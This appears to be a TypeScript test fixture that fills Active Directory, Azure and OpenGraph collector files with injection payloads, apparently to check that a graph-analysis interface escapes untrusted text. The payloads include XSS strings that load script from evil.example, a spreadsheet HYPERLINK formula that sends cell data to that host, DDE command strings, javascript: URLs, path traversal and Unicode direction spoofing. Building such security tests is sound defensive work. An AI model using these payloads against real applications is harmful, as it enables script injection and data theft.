import type { NamedContent } from './reference-graph.js';

const program = 'document.title="OWNED"';

/** The program as numeric references of HTML, which have no letters: names of directory objects are stored in upper case. */
const code = Array.from(program, (it) => `&#${it.charCodeAt(0)};`).join('');

/** The same as escapes of a URL. */
const escaped = Array.from(program, (it) => `%${it.charCodeAt(0).toString(16)}`).join('');

/** Texts that are attacks if something takes them for more than text. The title of the page shows whether one has run. */
export const attacks = uppercase({
  markup: `<img src=x onerror="${code}">`,
  script: '</title></script><script src=//evil.example/script></script>',
  svg: `"/></text><svg onload="${code}"><foreignObject><iframe src=//evil.example/frame>`,
  attribute: `" onmouseover="${code}" autofocus onfocus="${code}`,
  entity: '&lt;b&gt;&#60;script&#62;&quot;&amp;amp;',
  formula: '=HYPERLINK("https://evil.example/?"&A1,"click")',
  minus: "-2+3+cmd|' /C calc'!A0",
  at: '@SUM(1+1)*cmd|" /C calc"!A0',
  csv: 'a","b"\r\n=1+1;\t"',
  markdown: `[a](javascript:${escaped}) ![i](https://evil.example/i.png) **b** | c | \`d\` <u>e</u>`,
  address: `javascript:${escaped}`,
  traversal: '../../../api/v2/logout?x=1&kind=User#/ui/o/1',
  percent: '%3Cscript%3E%00%2e%2e%2f%zz',
  template: '${1+1}{{1+1}}<%= 1+1 %>',
  direction: 'gpj.\u202Eexe.\u2066alice\u200B\uFEFF',
  length: 'W'.repeat(2000),
});

function uppercase<T extends Readonly<Record<string, string>>>(texts: T): Record<keyof T, string> {
  return Object.fromEntries(Object.entries(texts).map(([name, text]) => [name, text.toUpperCase()])) as Record<
    keyof T,
    string
  >;
}

export const attackNames: readonly string[] = Object.values(attacks);

const domain = 'S-1-5-21-66-6-66';
const tenant = '66666666-6666-4666-8666-666666666666';
const idOf = (place: number, offset: number) => `${domain}-${offset + place}`;

/** The object ids of the users, in the order of {@link attackNames}. Each is in the next group; the last group belongs to tier zero. */
export const attackUsers: readonly string[] = attackNames.map((_, place) => idOf(place, 2000));

/** An object id that is an attack itself. */
export const attackId = `x"><IMG SRC=X ONERROR=ALERT(1)>/../%2F?#&'`.toUpperCase();

/**
 * Collector files of a domain, a tenant and an OpenGraph whose names, descriptions, kinds of nodes and ids are {@link attacks}. Users are members of
 * chains of groups, have sessions on computers and administer them.
 */
export function attackFiles(): readonly NamedContent[] {
  const groups = attackNames.map((name, place) => ({
    ...object(idOf(place, 1000), name),
    Members: [
      { ObjectIdentifier: idOf(place, 2000), ObjectType: 'User' },
      ...(place > 0 ? [{ ObjectIdentifier: idOf(place - 1, 1000), ObjectType: 'Group' }] : []),
    ],
  }));
  const admins = {
    ...object(`${domain}-512`, attacks.markup),
    Members: [{ ObjectIdentifier: idOf(attackNames.length - 1, 1000), ObjectType: 'Group' }],
  };
  const computers = attackNames.map((name, place) => ({
    ...object(idOf(place, 3000), name, { operatingsystem: name }),
    Sessions: { Collected: true, Results: [{ UserSID: idOf(place, 2000), ComputerSID: idOf(place, 3000) }] },
    LocalGroups: [
      {
        ObjectIdentifier: `${idOf(place, 3000)}-544`,
        Name: name,
        Collected: true,
        Results: [{ ObjectIdentifier: idOf(place, 1000), ObjectType: 'Group' }],
      },
    ],
  }));
  return [
    file('domains', [object(domain, attacks.markup, { collected: true, functionallevel: attacks.script })]),
    file(
      'users',
      attackNames.map((name, place) => object(idOf(place, 2000), name, { email: name, title: name })),
    ),
    file('groups', [...groups, admins]),
    file('computers', computers),
    file('ous', [object('66666666-0000-4000-8000-000000000001', attacks.svg)]),
    file('gpos', [object('66666666-0000-4000-8000-000000000002', attacks.markdown, { gpcpath: attacks.address })]),
    cloud(),
    openGraph(),
  ].map(({ name, content }) => ({ name, content: Buffer.from(JSON.stringify(content)) }));
}

interface Json {
  readonly name: string;
  readonly content: object;
}

function object(id: string, name: string, more: object = {}) {
  return {
    ObjectIdentifier: id,
    Properties: {
      name,
      description: name,
      distinguishedname: `CN=${name}`,
      domain: attacks.markup,
      domainsid: domain,
      ...more,
    },
    Aces: [],
  };
}

function file(type: string, data: readonly object[]): Json {
  return { name: `${type}.json`, content: { data, meta: { type, version: 6, count: data.length, methods: 0 } } };
}

function cloud(): Json {
  const inTenant = { tenantId: tenant, tenantName: attacks.markup };
  const users = attackNames.map((displayName, place) => {
    const id = `66666666-0000-4000-8000-${String(place).padStart(12, '0')}`;
    return { kind: 'AZUser', data: { id, displayName, userPrincipalName: displayName, ...inTenant } };
  });
  const data = [
    { kind: 'AZTenant', data: { ...inTenant, displayName: attacks.markup, id: `/tenants/${tenant}` } },
    ...users,
  ];
  return { name: 'azure.json', content: { data, meta: { type: 'azure', version: 5, count: data.length } } };
}

function openGraph(): Json {
  const nodes = [
    {
      id: attackId,
      kinds: [attacks.markup, attacks.svg],
      properties: { name: attacks.script, [attacks.attribute]: attacks.entity },
    },
    { id: 'plain', kinds: [attacks.formula], properties: { name: '__proto__' } },
  ];
  const edge = { kind: 'Attacks', start: { value: attackId }, end: { value: 'plain' } };
  return { name: 'graph.json', content: { graph: { nodes, edges: [edge] } } };
}

/** The objects of {@link attackExtension}: an environment, and a user who owns it. */
export const extensionIds = { environment: 'HX-ORG', user: 'HX-USER' } as const;

/** A file of OpenGraph with {@link extensionIds}. */
export function extensionFile(): object {
  const node = (id: string, kind: string) => ({
    id,
    kinds: [kind],
    properties: { name: `${id} ${attacks.markup}`, environmentid: extensionIds.environment },
  });
  const { environment, user } = extensionIds;
  return {
    graph: {
      nodes: [node(environment, 'HX_Org'), node(user, 'HX_User')],
      edges: [{ start: { value: user }, kind: 'HX_Owns', end: { value: environment } }],
    },
  };
}

/** An extension whose texts are attacks. The panels have Markdown that is shown as such. */
export function attackExtension(): object {
  const content = ['**strong** text, [web](https://example.org/).', ...attackNames].join('\n\n');
  const info = { attacks: { title: attacks.markup, position: 0, markdown: { content } } };
  const texts = { description: attacks.script, info };
  return {
    schema: { name: attacks.at, display_name: attacks.markup, version: attacks.formula, namespace: 'HX' },
    node_kinds: [
      { name: 'HX_Org', display_name: attacks.svg, ...texts },
      { name: 'HX_User', display_name: attacks.markup, ...texts },
    ],
    relationship_kinds: [{ name: 'HX_Owns', is_traversable: true, ...texts }],
    environments: [{ environment_kind: 'HX_Org', source_kind: 'HXBase', principal_kinds: ['HX_User'] }],
    relationship_findings: [],
  };
}
